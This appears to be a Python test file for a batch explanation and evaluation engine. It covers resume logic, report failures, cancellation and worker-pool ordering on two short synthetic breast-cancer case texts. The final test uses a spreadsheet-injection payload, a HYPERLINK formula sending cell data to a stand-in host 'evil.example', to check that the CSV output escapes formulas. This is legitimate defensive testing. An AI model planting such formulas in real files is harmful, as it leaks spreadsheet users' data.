"""Batch and evaluate as functions with typed settings, called as a notebook or the window
would: no argument parsing, no terminal, no Qt."""

from __future__ import annotations

import json

import pytest

from engine.errors import Cancelled, InvalidSettingsError
from engine.evaluation import EvaluationSettings
from engine.explain import ExplainRequest
from engine.jobs.batch import BatchSettings, run_batch, safe_name
from engine.jobs.evaluate import EvaluateSettings, run_evaluation
from engine.metrics import MetricSettings
from engine.models import ModelRequest, load_model
from engine.task import TaskState

CASES = ["52 year old woman , ER positive , HER2 negative .",
         "45 year old woman , HER2 positive , grade 3 ."]


@pytest.fixture(scope="module")
def loaded(tiny_model_folder):
    return load_model(ModelRequest(str(tiny_model_folder)))


@pytest.fixture
def cases(tmp_path):
    path = tmp_path / "cases.jsonl"
    path.write_text("".join(json.dumps({"id": f"c{k}", "text": text}) + "\n"
                            for k, text in enumerate(CASES)))
    return path


def test_batch_job_writes_records_without_qt(loaded, cases, tmp_path):
    settings = BatchSettings(cases, tmp_path / "out",
                             ExplainRequest("placeholder", max_new_tokens=2, matrix=False))
    settings.validate()
    lines = []
    result = run_batch(settings, loaded, log=lines.append)
    assert (result.explained, result.resumed, result.failed) == (2, 0, 0)
    assert sorted(p.name for p in (tmp_path / "out" / "records").iterdir()) == sorted(
        f"{safe_name(f'c{k}')}.json" for k in range(2))
    assert (tmp_path / "out" / "summary.csv").read_text().count("\n") == 3
    assert not (tmp_path / "out" / "summary.pdf").exists()  # no report writer given
    assert len(lines) == 2
    again = run_batch(settings, loaded)
    assert (again.explained, again.resumed) == (0, 2)


class TextReports:
    """A report writer that writes each record's answer as text (the PDFs need Qt), and can be
    told to fail, as a full disk would."""

    def __init__(self) -> None:
        self.failing = False

    def case_pdf(self, record, path) -> None:
        from engine.errors import OutputError

        if self.failing:
            raise OutputError(f"cannot write {path}: No space left on device")
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(record.created_at)

    def summary_pdf(self, rows, path) -> None:
        path.write_text(" ".join(str(row["case"]) for row in rows))


def test_a_report_never_outlives_its_record_and_summaries_agree(loaded, cases, tmp_path):
    # Before: a record made again whose report then failed stood beside the old record's
    # report (and a rerun kept it); a rerun with no case standing kept the old summary.pdf;
    # a report failing on resume stopped the whole batch.
    from engine.explain import ExplainRequest as Request
    from engine.record import Explanation

    out, reports = tmp_path / "out", TextReports()
    settings = BatchSettings(cases, out, Request("placeholder", max_new_tokens=2, matrix=False),
                             pdf=True)
    run_batch(settings, loaded, reports=reports)
    report = out / "reports" / f"{safe_name('c1')}.pdf"
    record = out / "records" / f"{safe_name('c1')}.json"
    assert report.read_text() == Explanation.load(record).created_at
    cases.write_text(cases.read_text().replace("grade 3", "grade 2"))  # c1 explained again...
    reports.failing = True  # ...and its report cannot be written
    result = run_batch(settings, loaded, reports=reports)
    assert (result.explained, result.resumed, result.failed) == (0, 1, 1)
    assert not report.exists()  # not the old record's report beside the new record
    (out / "reports" / f"{safe_name('c0')}.pdf").unlink()  # made again on resume: fails too
    lines = []
    result = run_batch(settings, loaded, reports=reports, log=lines.append)
    assert (result.resumed, result.failed) == (0, 2)
    assert any("c0: its report not saved: cannot write" in line for line in lines)
    assert not (out / "summary.pdf").exists()  # no case stands: no earlier summary either
    assert (out / "summary.csv").read_text().count("\n") == 1  # the header alone


def test_batch_job_refuses_pdfs_without_a_writer_and_stops_on_cancel(loaded, cases, tmp_path):
    template = ExplainRequest("placeholder", max_new_tokens=2, matrix=False)
    with pytest.raises(InvalidSettingsError, match="report writer"):
        run_batch(BatchSettings(cases, tmp_path / "a", template, pdf=True), loaded)
    state = TaskState()
    state.cancel()
    with pytest.raises(Cancelled):
        run_batch(BatchSettings(cases, tmp_path / "b", template), loaded, state)
    assert (tmp_path / "b" / "failures.json").is_file()  # what finished is kept


def test_evaluate_job_returns_the_report_and_writes_it(loaded, cases, tmp_path):
    settings = EvaluateSettings(
        cases, EvaluationSettings(methods=("ifr", "random"), max_new_tokens=2,
                                  metrics=MetricSettings(soft=False)),
        json=tmp_path / "eval.json")
    settings.validate()
    report = run_evaluation(settings, loaded)
    assert report["cases_evaluated"] == 2
    assert set(report["summary"]) == {"ifr", "random"}
    written = json.loads((tmp_path / "eval.json").read_text())
    assert written["summary"] == report["summary"]
    with pytest.raises(InvalidSettingsError, match="--json"):
        EvaluateSettings(cases, settings.evaluation).validate()


def test_evaluate_resume_recomputes_a_case_whose_text_changed(loaded, cases, tmp_path):
    settings = EvaluateSettings(
        cases, EvaluationSettings(methods=("random",), max_new_tokens=2,
                                  metrics=MetricSettings(soft=False)),
        json=tmp_path / "eval.json")
    run_evaluation(settings, loaded)
    lines = settings.progress_path.read_text().splitlines()
    assert len(lines) == 2
    run_evaluation(settings, loaded)  # nothing new: both reused
    assert len(settings.progress_path.read_text().splitlines()) == 2
    cases.write_text(cases.read_text().replace("HER2 positive", "HER2 negative"))
    run_evaluation(settings, loaded)  # the edited case is evaluated again
    assert len(settings.progress_path.read_text().splitlines()) == 3


def test_a_pool_that_finishes_out_of_order_writes_what_the_serial_run_writes(loaded, cases,
                                                                            tmp_path):
    """The driver writes every record, index line and summary row whatever order a pool (a
    set of worker processes) hands the cases back in."""

    from engine.cases import load_cases
    from engine.jobs.batch import record_path
    from engine.jobs.pool import LocalPool
    from engine.record import Explanation

    class LastFirst(LocalPool):
        def explain(self, jobs, state):
            return reversed(list(super().explain(jobs, state)))

    template = ExplainRequest("placeholder", max_new_tokens=2, matrix=False, method="ifr")
    serial = run_batch(BatchSettings(cases, tmp_path / "serial", template), loaded)
    pooled = run_batch(BatchSettings(cases, tmp_path / "pooled", template), LastFirst(loaded))
    assert (serial.explained, pooled.explained) == (2, 2)

    def comparable(path):  # timings, memory and the creation time differ between runs
        data = Explanation.load(path).to_dict()
        for key in ("timings", "hardware", "created_at"):
            data.pop(key)
        return data

    for case in load_cases(cases):
        assert comparable(record_path(tmp_path / "serial", case)) == \
            comparable(record_path(tmp_path / "pooled", case))
    rows = lambda out: [line.split(",")[0] for line in  # noqa: E731
                        (out / "summary.csv").read_text().splitlines()]
    assert rows(tmp_path / "serial") == rows(tmp_path / "pooled") == ["case", "c0", "c1"]
    assert json.loads((tmp_path / "pooled" / "records.json").read_text()).keys() == \
        json.loads((tmp_path / "serial" / "records.json").read_text()).keys()


def test_evaluate_reports_the_methods_of_a_case_in_order(loaded, cases, tmp_path):
    class Heard(TaskState):
        def __init__(self):
            super().__init__()
            self.methods = []

        def progressed(self, stage, done, total):
            if stage == "method":
                self.methods.append((done, total))

    heard = Heard()
    settings = EvaluateSettings(
        cases, EvaluationSettings(methods=("ig", "ifr"), max_new_tokens=2,
                                  metrics=MetricSettings(soft=False)),
        json=tmp_path / "eval.json")
    run_evaluation(settings, loaded, heard)
    # Per case: each method's start and end; never the methods' own steps (IG's points).
    assert heard.methods == [(0, 2), (1, 2), (1, 2), (2, 2)] * 2


def test_the_summary_csv_holds_no_formula_a_spreadsheet_would_run(loaded, tmp_path):
    # Before: a case id =HYPERLINK("http://evil.example/?"&A1,"open") was written as it is.
    import csv

    cases = tmp_path / "cases.jsonl"
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    cases.write_text(json.dumps({"id": hostile, "text": CASES[0]}) + "\n"
                     + json.dumps({"id": "@SUM(1+1)", "text": CASES[1]}) + "\n")
    out = tmp_path / "out"
    run_batch(BatchSettings(cases, out, ExplainRequest("placeholder", max_new_tokens=2,
                                                       matrix=False)), loaded)
    with (out / "summary.csv").open() as handle:
        rows = list(csv.DictReader(handle))
    assert [row["case"] for row in rows] == ["'" + hostile, "'@SUM(1+1)"]
    assert all(float(row["attribute_s"]) > 0 for row in rows)  # numbers stay numbers
